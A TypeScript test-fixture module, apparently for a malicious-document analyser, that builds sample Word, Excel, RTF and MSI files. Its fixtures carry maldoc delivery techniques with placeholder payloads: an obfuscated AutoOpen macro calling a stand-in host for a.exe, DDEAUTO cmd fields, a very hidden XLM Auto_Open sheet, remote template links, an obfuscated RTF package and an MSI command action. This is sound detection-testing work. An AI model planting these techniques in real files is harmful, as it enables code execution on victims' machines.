import { crc32, deflateRawSync } from 'node:zlib';
import { type OleFolder, oleFile } from './ole-writer.ts';

/** Small documents made for tests, with one of everything that the readers look at. */

const u16 = (...values: number[]): Buffer => {
  const bytes = Buffer.alloc(values.length * 2);
  for (const [i, value] of values.entries()) bytes.writeUInt16LE(value & 0xffff, i * 2);
  return bytes;
};
const u32 = (...values: number[]): Buffer => {
  const bytes = Buffer.alloc(values.length * 4);
  for (const [i, value] of values.entries()) bytes.writeUInt32LE(value >>> 0, i * 4);
  return bytes;
};
const wide = (text: string): Buffer => Buffer.from(text, 'utf16le');
const latin = (text: string): Buffer => Buffer.from(text, 'latin1');

/** Packs as MS-OVBA does: with copies where that is shorter, so that readers meet both kinds of token. */
export function compressVba(text: string): Buffer {
  const source = latin(text);
  const chunks: Buffer[] = [Buffer.of(1)];
  for (let start = 0; start < source.length; start += 4096) {
    const chunk = source.subarray(start, start + 4096);
    const packed = packChunk(chunk);
    const isPacked = packed.length < 4096;
    const body = isPacked ? packed : Buffer.concat([chunk, Buffer.alloc(4096 - chunk.length)]);
    chunks.push(u16((isPacked ? 0xb000 : 0x3000) | (body.length - 1)), body);
  }
  return Buffer.concat(chunks);
}

function packChunk(chunk: Buffer): Buffer {
  const out: number[] = [];
  let flagsAt = -1;
  let bit = 8;
  for (let at = 0; at < chunk.length; ) {
    if (bit === 8) {
      flagsAt = out.push(0) - 1;
      bit = 0;
    }
    let offsetBits = 4;
    while (offsetBits < 12 && 1 << offsetBits < at) offsetBits++;
    const longest = (1 << (16 - offsetBits)) + 2;
    const { from, length } = longestMatch(chunk, at, longest);
    if (length >= 3) {
      out[flagsAt]! |= 1 << bit;
      const token = ((at - from - 1) << (16 - offsetBits)) | (length - 3);
      out.push(token & 0xff, token >> 8);
      at += length;
    } else out.push(chunk[at++]!);
    bit++;
  }
  return Buffer.from(out);
}

function longestMatch(chunk: Buffer, at: number, longest: number): { from: number; length: number } {
  let best = { from: 0, length: 0 };
  for (let from = Math.max(0, at - 200); from < at; from++) {
    let length = 0;
    while (length < longest && at + length < chunk.length && chunk[from + length] === chunk[at + length]) length++;
    if (length > best.length) best = { from, length };
  }
  return best;
}

export interface SampleModule {
  name: string;
  code: string;
  kind?: 'Module' | 'Class' | 'Document' | 'BaseClass';
  /** Before the source: what the editor compiled. */
  cache?: Buffer;
}

/** Compiled code of so many lines, as far as readers look at it. */
export function compiled(lines: number): Buffer {
  const cache = Buffer.alloc(0x3c + 0x40 + lines * 12 + 16);
  cache.writeUInt32LE(0x40, 0x19);
  cache.writeUInt16LE(0xcafe, 0x7c);
  cache.writeUInt16LE(1, 0x7e);
  cache.writeUInt16LE(lines, 0x80);
  return cache;
}

/** The storages and streams of a VBA project. */
export function vbaProject(modules: readonly SampleModule[], codePage = 1252): OleFolder {
  const record = (id: number, data: Buffer) => Buffer.concat([u16(id), u32(data.length), data]);
  const dir = Buffer.concat([
    record(0x01, u32(1)),
    record(0x02, u32(0x409)),
    record(0x14, u32(0x409)),
    record(0x03, u16(codePage)),
    record(0x04, latin('Project1')),
    record(0x05, latin('')),
    record(0x40, wide('')),
    record(0x06, latin('')),
    record(0x3d, latin('')),
    record(0x07, u32(0)),
    record(0x08, u32(0)),
    Buffer.concat([u16(0x09), u32(4), u32(1), u16(1)]),
    record(0x0c, latin('')),
    record(0x3c, wide('')),
    record(0x16, latin('stdole')),
    record(0x3e, wide('stdole')),
    record(0x0d, Buffer.concat([u32(12), latin('*\\G{0002}#2#'), Buffer.alloc(6)])),
    record(0x0f, u16(modules.length)),
    record(0x13, u16(0xffff)),
    ...modules.flatMap(({ name, kind = 'Module', cache = Buffer.alloc(16) }) => [
      record(0x19, latin(name)),
      record(0x47, wide(name)),
      record(0x1a, latin(name)),
      record(0x32, wide(name)),
      record(0x1c, latin('')),
      record(0x48, wide('')),
      record(0x31, u32(cache.length)),
      record(0x1e, u32(0)),
      record(0x2c, u16(0xffff)),
      Buffer.concat([u16(kind === 'Module' ? 0x21 : 0x22), u32(0)]),
      Buffer.concat([u16(0x2b), u32(0)]),
    ]),
    Buffer.concat([u16(0x10), u32(0)]),
  ]);
  const project = modules.map(({ name, kind = 'Module' }) => `${kind}=${name}${kind === 'Document' ? '/&H0' : ''}\r\n`);
  return {
    PROJECT: latin(`ID="{00000000-0000-0000-0000-000000000000}"\r\n${project.join('')}Name="Project1"\r\n`),
    VBA: {
      dir: compressVba(dir.toString('latin1')),
      _VBA_PROJECT: Buffer.from('cc61ffff0000000000', 'hex'),
      ...Object.fromEntries(
        modules.map(({ name, code, cache = Buffer.alloc(16) }) => [
          name,
          Buffer.concat([cache, compressVba(`Attribute VB_Name = "${name}"\r\n${code}`)]),
        ]),
      ),
    },
  };
}

/** A set of properties as `\u0005SummaryInformation` has it: texts by number. */
export function summary(values: { [id: number]: string }): Buffer {
  const entries = [...Object.entries(values)].map(([id, text]) => {
    const bytes = latin(`${text}\0`);
    const padded = Buffer.concat([bytes, Buffer.alloc(-bytes.length & 3)]);
    return { id: Number(id), bytes: Buffer.concat([u32(30, bytes.length), padded]) };
  });
  entries.unshift({ id: 1, bytes: Buffer.concat([u32(2), u16(1252, 0)]) });
  const heads: Buffer[] = [];
  let at = 8 + entries.length * 8;
  for (const { id, bytes } of entries) {
    heads.push(u32(id, at));
    at += bytes.length;
  }
  const set = Buffer.concat([u32(at, entries.length), ...heads, ...entries.map(({ bytes }) => bytes)]);
  const format = Buffer.from('e0859ff2f94f6810ab9108002b27b3d9', 'hex');
  return Buffer.concat([u16(0xfffe, 0), u32(0x2000a), Buffer.alloc(16), u32(1), format, u32(48), set]);
}

/** What the packager puts into `\u0001Ole10Native`. */
export function nativePackage(name: string, data: Buffer): Buffer {
  const path = `C:\\secret\\${name}`;
  const body = Buffer.concat([
    u16(2),
    latin(`${name}\0${path}\0`),
    u16(0, 3),
    u32(path.length + 1),
    latin(`${path}\0`),
    u32(data.length),
    data,
  ]);
  return Buffer.concat([u32(body.length), body]);
}

/** A Word 97 document with a field, macros, a package and a link to another file. */
export function wordSample(modules: readonly SampleModule[] = [AUTO_OPEN]): Buffer {
  const text = latin('Text \u0013DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"\u0014result\u0015 end');
  const header = Buffer.alloc(512);
  header.writeUInt16LE(0xa5ec, 0);
  header.writeUInt16LE(0xc1, 2);
  const link = Buffer.concat([u32(0x0200_0001, 1, 0, 0), wide('http://203.0.113.7/template.rtf')]);
  return oleFile({
    WordDocument: Buffer.concat([header, text]),
    '1Table': Buffer.alloc(64),
    '\u0005SummaryInformation': summary({ 2: 'A title', 4: 'Somebody', 18: 'Ovoscope' }),
    Macros: vbaProject(modules),
    ObjectPool: {
      _1: { '\u0001Ole10Native': nativePackage('invoice.js', latin('WScript.Echo(1)')) },
      _2: { '\u0001Ole': link },
      _3: { 'Equation Native': Buffer.alloc(40, 1) },
    },
  });
}

export const AUTO_OPEN: SampleModule = {
  name: 'Module1',
  code: `Sub AutoOpen()\r\n  Set s = CreateObject("WScr" & "ipt.She" + Chr(108) & _\r\n    "l")\r\n  s.Run StrReverse("exe.clac") & " http://203.0.113.9/a.exe"\r\nEnd Sub\r\n`,
};

const biff = (id: number, data: Buffer): Buffer => Buffer.concat([u16(id, data.length), data]);
const shortText = (text: string): Buffer => Buffer.concat([Buffer.of(text.length, 0), latin(text)]);

/** A workbook with a very hidden macro sheet, `Auto_Open`, formulas of most kinds of token, and a DDE link. */
export function excelSample(): Buffer {
  return oleFile({ Workbook: excelStream(), '\u0005SummaryInformation': summary({ 4: 'Somebody' }) });
}

export function excelStream(): Buffer {
  const bof = (type: number) => biff(0x809, Buffer.concat([u16(0x600, type, 0, 0), u32(0, 6)]));
  const eof = biff(0x0a, Buffer.alloc(0));
  const tokenText = (text: string) => Buffer.concat([Buffer.of(0x17), shortText(text)]);
  const formula = (row: number, tokens: Buffer, value = Buffer.alloc(8)) =>
    biff(0x06, Buffer.concat([u16(row, 0, 0), value, u16(0), u32(0), u16(tokens.length), tokens]));
  const character = (code: number) => Buffer.concat([Buffer.of(0x1e), u16(code), Buffer.of(0x41), u16(111)]);
  const exec = Buffer.concat([
    tokenText('cmd /c '),
    character(99),
    Buffer.of(8),
    tokenText('alc'),
    Buffer.of(8, 0x42, 1),
    u16(110),
  ]);
  const halt = Buffer.concat([Buffer.of(0x42, 0), u16(54)]);
  const reference = Buffer.concat([Buffer.of(0x3a), u16(0, 0, 0)]);
  const call = Buffer.concat([
    Buffer.of(0x39),
    u16(1, 1, 0),
    Buffer.of(0x44),
    u16(0, 0xc000),
    Buffer.of(0x42, 2),
    u16(255),
  ]);
  const sheets = (at: number) => [
    biff(0x85, Buffer.concat([u32(at), Buffer.of(2, 1), shortText('Macro1')])),
    biff(0x85, Buffer.concat([u32(0), Buffer.of(0, 0), shortText('Sheet1')])),
  ];
  const rest = [
    biff(0x1ae, u16(2, 0x0401)),
    biff(0x1ae, Buffer.concat([u16(0, 11), Buffer.of(0), latin('cmd\u0003/c calc')])),
    biff(0x23, Buffer.concat([u16(0x7ffe), u32(0), shortText('A0')])),
    biff(0x17, Buffer.concat([u16(2), u16(0, 0, 0), u16(1, 0xfffe, 0xfffe)])),
    biff(
      0x18,
      Buffer.concat([u16(0x21), Buffer.of(0, 1), u16(reference.length, 0, 0), u32(0), Buffer.of(0, 1), reference]),
    ),
    biff(0xfc, Buffer.concat([u32(1, 1), u16(5), Buffer.of(0), latin('URL: ')])),
    eof,
  ];
  const size = [bof(5), ...sheets(0), ...rest].reduce((sum, one) => sum + one.length, 0);
  const textValue = Buffer.from('000000000000ffff', 'hex');
  return Buffer.concat([
    bof(5),
    ...sheets(size),
    ...rest,
    bof(0x40),
    formula(0, exec, textValue),
    biff(0x207, Buffer.concat([u16(4), Buffer.of(0), latin('done')])),
    formula(1, halt),
    formula(2, call),
    biff(0xfd, Buffer.concat([u16(3, 1, 0), u32(0)])),
    biff(0x27e, Buffer.concat([u16(4, 1, 0), u32((42 << 2) | 2)])),
    biff(0x203, Buffer.concat([u16(5, 1, 0), Buffer.from('000000000000f83f', 'hex')])),
    eof,
  ]);
}

/** A zip file; what is text is deflated. */
export function zipOf(members: { [name: string]: string | Buffer }): Buffer {
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  let last: { content: string | Buffer; bytes: Buffer; packed: Buffer } | undefined;
  for (const [name, content] of Object.entries(members)) {
    if (last?.content !== content) {
      const whole = Buffer.from(content);
      last = { content, bytes: whole, packed: typeof content === 'string' ? deflateRawSync(whole) : whole };
    }
    const { bytes, packed } = last;
    const method = typeof content === 'string' ? 8 : 0;
    const facts = Buffer.concat([u16(20, 0, method, 0, 0x21), u32(crc32(bytes), packed.length, bytes.length)]);
    const local = Buffer.concat([u32(0x04034b50), facts, u16(name.length, 0), latin(name), packed]);
    directory.push(
      Buffer.concat([u32(0x02014b50), u16(20), facts, u16(name.length, 0, 0, 0, 0), u32(0, at), latin(name)]),
    );
    parts.push(local);
    at += local.length;
  }
  const list = Buffer.concat(directory);
  const end = Buffer.concat([
    u32(0x06054b50),
    u16(0, 0, directory.length, directory.length),
    u32(list.length, at),
    u16(0),
  ]);
  return Buffer.concat([...parts, list, end]);
}

const TYPES = 'http://schemas.openxmlformats.org/package/2006/content-types';
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (id: string, type: string, target: string, mode = '') =>
  `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"${mode === '' ? '' : ` TargetMode="${mode}"`}/>`;

/** A Word document with macros, a remote template, a field over several runs, an object, a control and a ribbon. */
export function docmSample(): Buffer {
  return zipOf({
    '[Content_Types].xml': `<Types xmlns="${TYPES}"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`,
    '_rels/.rels': `<Relationships xmlns="${RELATIONS}">${relation('rId1', 'officeDocument', 'word/document.xml')}</Relationships>`,
    'word/document.xml':
      '<w:document><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r>' +
      '<w:instrText>AUTO cmd &quot;/c calc&quot;</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>' +
      '<w:fldSimple w:instr="INCLUDEPICTURE http://203.0.113.5/p.png"/></w:p></w:document>',
    'word/_rels/document.xml.rels': `<Relationships>${relation('rId2', 'oleObject', 'embeddings/oleObject1.bin')}${relation('rId3', 'hyperlink', 'http://example.test/', 'External')}</Relationships>`,
    'word/_rels/settings.xml.rels': `<Relationships>${relation('rId1', 'attachedTemplate', 'https://203.0.113.8/t.dotm', 'External')}</Relationships>`,
    'word/vbaProject.bin': oleFile(vbaProject([AUTO_OPEN, { name: 'ThisDocument', code: '', kind: 'Document' }])),
    'word/embeddings/oleObject1.bin': oleFile({ '\u0001Ole10Native': nativePackage('run.exe', latin('MZ fake')) }),
    'word/activeX/activeX1.xml': '<ax:ocx ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}"/>',
    'customUI/customUI.xml': '<customUI onLoad="Ribbon_Load"/>',
    'docProps/core.xml':
      '<cp:coreProperties><dc:creator>Somebody</dc:creator><dcterms:created>2026-01-02T03:04:05Z</dcterms:created></cp:coreProperties>',
    'docProps/custom.xml':
      '<Properties><property name="__proto__"><vt:lpwstr>payload</vt:lpwstr></property></Properties>',
  });
}

/** A workbook with a hidden macro sheet and a DDE link. */
export function xlsmSample(): Buffer {
  return zipOf({
    '[Content_Types].xml': `<Types xmlns="${TYPES}"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>`,
    'xl/workbook.xml':
      '<workbook><sheets><sheet name="Macro1" state="veryHidden" r:id="rId1"/><sheet name="Sheet1" r:id="rId2"/></sheets>' +
      '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>',
    'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>${relation('rId2', 'worksheet', 'worksheets/sheet1.xml')}</Relationships>`,
    'xl/macrosheets/sheet1.xml':
      '<macrosheet><sheetData><row><c r="A1" t="str"><f>EXEC(CHAR(99)&amp;"alc")</f><v>x</v></c><c r="A2" t="s"><v>0</v></c></row></sheetData></macrosheet>',
    'xl/sharedStrings.xml': '<sst><si><t>http://203.0.113.3/x</t></si></sst>',
    'xl/worksheets/sheet1.xml': '<worksheet><c r="A1"><f>1+1</f></c></worksheet>',
    'xl/externalLinks/externalLink1.xml':
      '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>',
  });
}

/** An OLE 1 object as RTF has it. */
export function ole1(className: string, data: Buffer): Buffer {
  const text = (value: string) => Buffer.concat([u32(value.length + 1), latin(`${value}\0`)]);
  return Buffer.concat([u32(0x501, 2), text(className), u32(0, 0, data.length), data]);
}

/** RTF with a template, a field, and objects: a package under obfuscation, an equation, a compound file with a link. */
export function rtfSample(): Buffer {
  const hex = (bytes: Buffer) => bytes.toString('hex');
  const native = ole1('Package', nativePackage('drop.exe', latin('MZ fake')).subarray(4));
  const packed = hex(native);
  const equation = hex(ole1('Equation.3', Buffer.alloc(32, 2)));
  const link = Buffer.concat([u32(0x0200_0001, 1, 0, 0), wide('http://203.0.113.6/x.hta')]);
  const linked = hex(ole1('OLE2Link', oleFile({ '\u0001Ole': link })));
  return latin(
    '{\\rtf1\\ansi\\ansicpg1252{\\*\\template http://203.0.113.4/t.dot}{\\info{\\author Somebody}{\\creatim\\yr2026\\mo1\\dy2}}' +
      '{\\field{\\*\\fldinst {DDEAUTO }{\\b cmd "/c calc"}}{\\fldrslt x}}' +
      `{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata ${packed.slice(0, 21)}{\\*\\unknown 4141}\\par ${packed.slice(21)}}}` +
      `{\\object\\objemb{\\*\\objdata ${equation}}}{\\object\\objautlink{\\*\\objdata\r\n${linked.replace(/.{60}/g, '$&\r\n')}}}` +
      '{\\sp{\\sn pFragments}{\\sv 1}}}trailing bytes',
  );
}

const MSI_LETTERS = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz._';

function msiName(name: string): string {
  const isTable = name.startsWith('!');
  let text = isTable ? '\u4840' : '';
  const letters = isTable ? name.slice(1) : name;
  for (let i = 0; i < letters.length; i += 2) {
    const first = MSI_LETTERS.indexOf(letters[i]!);
    const second = i + 1 < letters.length ? MSI_LETTERS.indexOf(letters[i + 1]!) : -1;
    text += String.fromCharCode(second < 0 ? 0x4800 + first : 0x3800 + first + (second << 6));
  }
  return text;
}

/** A package with two properties and a script that runs with the rights of the system. */
export function msiSample(): Buffer {
  const texts: string[] = [];
  const text = (value: string) => (texts.includes(value) ? texts.indexOf(value) : texts.push(value) - 1) + 1;
  const column = (...values: number[]) => u16(...values);
  const columns: [string, number, string, number][] = [
    ['Property', 1, 'Property', 0x2d48],
    ['Property', 2, 'Value', 0x0f00],
    ['CustomAction', 1, 'Action', 0x2d48],
    ['CustomAction', 2, 'Type', 0x0502],
    ['CustomAction', 3, 'Source', 0x1d48],
    ['CustomAction', 4, 'Target', 0x1d00],
    ['InstallExecuteSequence', 1, 'Action', 0x2d48],
    ['InstallExecuteSequence', 2, 'Condition', 0x1d00],
    ['InstallExecuteSequence', 3, 'Sequence', 0x1502],
  ];
  const tables = {
    '!_Columns': Buffer.concat([
      column(...columns.map(([table]) => text(table))),
      column(...columns.map(([, number]) => number + 0x8000)),
      column(...columns.map(([, , name]) => text(name))),
      column(...columns.map(([, , , type]) => type + 0x8000)),
    ]),
    '!_Tables': column(text('Property'), text('CustomAction'), text('InstallExecuteSequence')),
    '!Property': Buffer.concat([column(text('ProductName'), text('CMD')), column(text('Ovo'), text('cmd.exe'))]),
    '!CustomAction': Buffer.concat([
      column(text('RunScript'), text('RunCommand')),
      column(6 + 0xc00 + 0x8000, 50 + 0x8000),
      column(text('Script'), text('CMD')),
      column(text('Main'), text('/c calc')),
    ]),
    '!InstallExecuteSequence': Buffer.concat([
      column(text('RunScript')),
      column(text('NOT Installed')),
      column(4000 + 0x8000),
    ]),
  };
  const pool = Buffer.concat([u16(1252, 0), ...texts.map((value) => u16(value.length, 1))]);
  const streams: OleFolder = {};
  for (const [name, bytes] of Object.entries({
    ...tables,
    '!_StringPool': pool,
    '!_StringData': latin(texts.join('')),
    'Binary.Script': latin('MsgBox 1'),
  })) {
    streams[msiName(name)] = bytes;
  }
  streams['\u0005SummaryInformation'] = summary({ 2: 'Installation Database', 7: 'Intel;1033' });
  return oleFile(streams, Buffer.from('84100c0000000000c000000000000046', 'hex'));
}
